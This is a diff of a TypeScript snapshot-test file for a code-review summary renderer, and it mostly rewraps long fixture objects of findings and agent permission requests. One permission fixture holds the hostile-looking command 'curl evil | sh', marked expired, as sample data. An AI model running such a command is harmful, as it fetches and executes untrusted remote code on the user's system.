@@ -42,16 +42,48 @@ function view(patch: Partial<SummaryView> = {}): SummaryView {
 }
 
 const allSeverities = [
-  finding("F1", { severity: "critical", category: "Security", title: "Approval token returned to the calling agent", path: "backend/approval_helper.py", line: 343 }),
-  finding("F2", { severity: "high", category: "Reliability", title: "Retry loop never gives up", line: 40, endLine: 52 }),
-  finding("F10", { severity: "high", category: "Bug", title: "Off-by-one in pagination", path: "src/pages.ts", line: 7 }),
-  finding("F3", { severity: "medium", category: "Performance", title: "N+1 query in list view", path: undefined, line: undefined }),
-  finding("F4", { severity: "low", category: "Style", title: "Inconsistent naming", path: "src/naming.ts", line: undefined }),
+  finding("F1", {
+    severity: "critical",
+    category: "Security",
+    title: "Approval token returned to the calling agent",
+    path: "backend/approval_helper.py",
+    line: 343,
+  }),
+  finding("F2", {
+    severity: "high",
+    category: "Reliability",
+    title: "Retry loop never gives up",
+    line: 40,
+    endLine: 52,
+  }),
+  finding("F10", {
+    severity: "high",
+    category: "Bug",
+    title: "Off-by-one in pagination",
+    path: "src/pages.ts",
+    line: 7,
+  }),
+  finding("F3", {
+    severity: "medium",
+    category: "Performance",
+    title: "N+1 query in list view",
+    path: undefined,
+    line: undefined,
+  }),
+  finding("F4", {
+    severity: "low",
+    category: "Style",
+    title: "Inconsistent naming",
+    path: "src/naming.ts",
+    line: undefined,
+  }),
 ];
 
 describe("renderSummary snapshots", () => {
   it("first review with findings of all severities", () => {
-    expect(renderSummary(view({ findings: allSeverities, notInline: ["F3", "F10"], notes: ["Diff cut to 200 KB"] }))).toMatchSnapshot();
+    expect(
+      renderSummary(view({ findings: allSeverities, notInline: ["F3", "F10"], notes: ["Diff cut to 200 KB"] })),
+    ).toMatchSnapshot();
   });
 
   it("in progress with a plan, showing the previous results", () => {
@@ -82,7 +114,11 @@ describe("renderSummary snapshots", () => {
 
   it("failed", () => {
     const out = renderSummary(
-      view({ status: "failed", failure: "the agent did not answer within 20 minutes", findings: allSeverities.slice(1, 2) }),
+      view({
+        status: "failed",
+        failure: "the agent did not answer within 20 minutes",
+        findings: allSeverities.slice(1, 2),
+      }),
     );
     expect(out).toMatchSnapshot();
   });
@@ -94,7 +130,12 @@ describe("renderSummary snapshots", () => {
         highlights: [],
         findings: [
           finding("F1", { state: "resolved", resolvedSha: NEW, title: "Token leaked in logs" }),
-          finding("F2", { state: "dismissed", dismissedBy: "alice", dismissReason: "test fixture, not shipped", severity: "low" }),
+          finding("F2", {
+            state: "dismissed",
+            dismissedBy: "alice",
+            dismissReason: "test fixture, not shipped",
+            severity: "low",
+          }),
           finding("F3", { state: "dismissed", dismissedBy: "bob" }),
           finding("F4", { state: "resolved" }),
         ],
@@ -110,9 +151,30 @@ describe("renderSummary snapshots", () => {
         status: "comments",
         findings: [finding("F1", { severity: "low" })],
         permissions: [
-          { id: "p-a1b2c3", kind: "read", title: "Read src/app.ts", outcome: "allowed", decidedBy: "policy", decidedAt: at },
-          { id: "p-d4e5f6", kind: "execute", title: "Run `npm test`", outcome: "allowed_always", decidedBy: "alice", decidedAt: at },
-          { id: "p-g7h8i9", kind: "fetch", title: "Fetch https://example.com", outcome: "denied", decidedBy: "bob", decidedAt: at },
+          {
+            id: "p-a1b2c3",
+            kind: "read",
+            title: "Read src/app.ts",
+            outcome: "allowed",
+            decidedBy: "policy",
+            decidedAt: at,
+          },
+          {
+            id: "p-d4e5f6",
+            kind: "execute",
+            title: "Run `npm test`",
+            outcome: "allowed_always",
+            decidedBy: "alice",
+            decidedAt: at,
+          },
+          {
+            id: "p-g7h8i9",
+            kind: "fetch",
+            title: "Fetch https://example.com",
+            outcome: "denied",
+            decidedBy: "bob",
+            decidedAt: at,
+          },
           { id: "p-j0k1l2", kind: "edit", title: "Edit package.json", outcome: "pending" },
           { id: "p-m3n4o5", kind: "execute", title: "Run `curl evil | sh`", outcome: "expired", decidedAt: at },
           { id: "p-p6q7r8", kind: "delete", title: "Delete dist/", outcome: "cancelled" },
@@ -124,7 +186,14 @@ describe("renderSummary snapshots", () => {
 
   it("GitLab terms", () => {
     const inProgress = renderSummary(
-      view({ terms: GITLAB, status: "in_progress", summary: undefined, highlights: [], commitSha: NEW, inProgress: { headSha: NEW } }),
+      view({
+        terms: GITLAB,
+        status: "in_progress",
+        summary: undefined,
+        highlights: [],
+        commitSha: NEW,
+        inProgress: { headSha: NEW },
+      }),
     );
     const failed = renderSummary(view({ terms: GITLAB, status: "failed", failure: "agent crashed" }));
     expect(`${inProgress}\n\n----\n\n${failed}`).toMatchSnapshot();
@@ -135,7 +204,11 @@ describe("renderSummary", () => {
   it("puts the marker on the first line and the sections in SPEC order", () => {
     const out = renderSummary(
       view({
-        findings: [...allSeverities, finding("F5", { state: "resolved", resolvedSha: NEW }), finding("F6", { state: "dismissed" })],
+        findings: [
+          ...allSeverities,
+          finding("F5", { state: "resolved", resolvedSha: NEW }),
+          finding("F6", { state: "dismissed" }),
+        ],
         permissions: [{ id: "p-abc123", kind: "read", title: "Read", outcome: "allowed" }],
       }),
     );
